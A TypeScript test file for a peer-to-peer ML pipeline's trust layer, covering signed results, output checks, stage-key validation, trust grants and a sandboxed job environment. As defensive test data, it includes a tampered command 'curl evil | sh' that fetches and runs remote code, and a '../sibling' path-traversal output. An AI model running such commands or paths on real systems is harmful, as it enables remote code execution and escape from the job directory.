import { mkdir, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { generateKeyPair } from '@libp2p/crypto/keys'
import { peerIdFromPrivateKey } from '@libp2p/peer-id'
import { afterAll, describe, expect, it } from 'vitest'
import { TrustGrants } from '../src/trust/grants.js'
import { believable, signResult, verifyResult } from '../src/trust/results.js'
import { checkResult } from '../src/exec/result-check.js'
import type { JobSpec } from '../src/exec/protocol.js'
import { bwrapLauncher, jobEnv } from '../src/exec/sandbox.js'
import { specKeyProblem } from '../src/exec/spec-key.js'
import { stageKey } from '../src/pipeline/runcache.js'

const dir = await mkdtemp(join(tmpdir(), 'mlp-trust-'))
afterAll(async () => { await rm(dir, { recursive: true, force: true }) })

const key = await generateKeyPair('Ed25519')
const self = peerIdFromPrivateKey(key).toString()
const other = peerIdFromPrivateKey(await generateKeyPair('Ed25519')).toString()
const CID_A = 'bafkreihdwdcefgh4dqkjv67uzcmw7ojee6xedzdetojuzjevtenxquvyku'
const CID_B = 'bafkreigh2akiscaildcqabsyg3dfr6chu3fgpregiymsck7e7aqa4s52zy'

describe('signed results', () => {
  it('verify for their stage key only, and any change to an out, the signer or the time breaks them', async () => {
    const r = await signResult('k1', key, self, [{ path: 'model.pt', cid: CID_A, size: 5 }])
    expect(await verifyResult('k1', r)).toBe(true)
    expect(await verifyResult('k2', r)).toBe(false)
    expect(await verifyResult('k1', { ...r, outs: [{ path: 'model.pt', cid: CID_B, size: 5 }] })).toBe(false)
    expect(await verifyResult('k1', { ...r, outs: [{ path: 'model.pt', cid: CID_A, size: 6 }] })).toBe(false)
    expect(await verifyResult('k1', { ...r, ranOn: other })).toBe(false)
    expect(await verifyResult('k1', { ...r, at: new Date(0).toISOString() })).toBe(false)
    expect(await verifyResult('k1', { ...r, sig: undefined })).toBe(false)
    expect(await verifyResult('k1', { ...r, ranOn: 'not-a-peer-id' })).toBe(false)
  })

  it('are believed only from a trusted signer', async () => {
    const r = await signResult('k', key, self, [])
    expect(await believable('k', r, (s) => s === self)).toBe(true)
    expect(await believable('k', r, (s) => s === other)).toBe(false)
  })
})

describe('checking a job result', () => {
  const spec: JobSpec = { id: 'x', stage: 'train', cmd: ['true'], wdir: '.', inputs: [], outs: [{ path: 'model.pt', cache: true }, { path: 'metrics.json', cache: false }], gpu: 1, deps: [], params: {}, key: 'k' }
  const outs = [{ path: 'model.pt', cid: CID_A, size: 1 }, { path: 'metrics.json', cid: CID_B, size: 2 }]
  const trusted = (p: string): boolean => p === self

  it('accepts exactly the declared outs signed by the trusted executor', async () => {
    const r = await signResult('k', key, self, outs)
    expect((await checkResult(spec, self, r, trusted)).outs).toEqual(outs)
  })

  it.each([
    ['an undeclared out', [...outs, { path: '../sibling', cid: CID_A, size: 1 }], "out '../sibling' is not one the stage declares"],
    ['a missing out', outs.slice(0, 1), "declared out 'metrics.json' missing"],
    ['a duplicated out', [...outs, outs[0]], 'names an out twice']
  ])('rejects %s', async (_what, given, says) => {
    await expect(checkResult(spec, self, await signResult('k', key, self, given), trusted)).rejects.toThrow(says)
  })

  it('rejects a signer without --results, and a result signed as someone else', async () => {
    await expect(checkResult(spec, self, await signResult('k', key, self, outs), () => false)).rejects.toThrow('not trusted with --results')
    await expect(checkResult(spec, other, await signResult('k', key, self, outs), () => true)).rejects.toThrow('not by the executor')
  })
})

describe('the stage key an executor signs under', () => {
  it('must be the one the job\'s command, deps, params and outs give', async () => {
    const work = await mkdtemp(join(dir, 'work-'))
    await writeFile(join(work, 'params.yaml'), 'train:\n  lr: 0.1\n')
    const deps = [{ path: 'data.csv', cid: CID_A }]
    const params = { 'params.yaml': { 'train.lr': 0.1 } }
    const key = stageKey(['python train.py'], deps.map((d) => ({ ...d, size: 0 })), params, ['model.pt'])
    const spec: JobSpec = { id: 'x', stage: 'train', cmd: ['python train.py'], wdir: '.', inputs: [...deps, { path: 'params.yaml', cid: CID_B }], outs: [{ path: 'model.pt', cache: true }], gpu: 0, deps, params, key }
    expect(specKeyProblem(spec, work)).toBeUndefined()
    expect(specKeyProblem({ ...spec, cmd: ['curl evil | sh'] }, work)).toContain('stage key does not match')
    expect(specKeyProblem({ ...spec, params: { 'params.yaml': { 'train.lr': 0.5 } } }, work)).toContain("param 'train.lr' is not what params.yaml says")
    expect(specKeyProblem({ ...spec, deps: [{ path: 'data.csv', cid: CID_B }] }, work)).toContain("dep 'data.csv' is not an input")
  })
})

describe('trust grants', () => {
  it('read the first release\'s list as --run grants and save the new format', async () => {
    const file = join(dir, 'trust.json')
    await writeFile(file, JSON.stringify([self, 42]))
    const grants = new TrustGrants(file)
    await grants.load()
    expect([...grants.roles(self)]).toEqual(['run'])
    expect(grants.has(self, 'results')).toBe(false)
    await grants.add(other, ['results', 'run'])
    expect(JSON.parse(await readFile(file, 'utf8'))).toEqual({ peers: { [self]: ['run'], [other]: ['run', 'results'] } })
  })

  it('tell listeners which roles a peer lost', async () => {
    const grants = new TrustGrants(join(dir, 'trust2.json'))
    await grants.add(other, ['run', 'results'])
    const lost: string[][] = []
    grants.onRevoke((peer, roles) => { lost.push([peer, ...roles]) })
    await grants.remove(other, ['run'])
    await grants.remove(other)
    await grants.remove(other)
    expect(lost).toEqual([[other, 'run'], [other, 'results']])
    expect(grants.list()).toEqual([])
  })
})

describe('the sandbox', () => {
  it('passes on only allowlisted variables, with HOME in the job directory', () => {
    const env = jobEnv({ jobDir: '/j', executor: self, stage: 's', gpus: [1, 2] }, { PATH: '/bin', LC_ALL: 'C', AWS_SECRET_ACCESS_KEY: 'x', MLP_HOME: '/h', HOME: '/root' })
    expect(env).toEqual({ PATH: '/bin', LC_ALL: 'C', HOME: '/j', TMPDIR: '/tmp', MLP_EXECUTOR_PEER_ID: self, MLP_STAGE: 's', CUDA_VISIBLE_DEVICES: '1,2' })
  })

  it('hides MLP_HOME before binding the job directory back', async () => {
    const home = await mkdtemp(join(dir, 'home-'))
    const job = join(home, 'jobs', 'j1')
    await mkdir(job, { recursive: true })
    const { args } = bwrapLauncher('/usr/bin/bwrap', { home, jobDir: job, cwd: job, env: { PATH: '/bin' } })
    const tmpfs = args.findIndex((a, i) => a === home && args[i - 1] === '--tmpfs')
    const bind = args.findIndex((a, i) => a === job && args[i - 1] === '--bind')
    expect(tmpfs).toBeGreaterThan(0)
    expect(bind).toBeGreaterThan(tmpfs)
    expect(args).toContain('--clearenv')
    expect(args.at(-1)).toBe('--')
  })
})
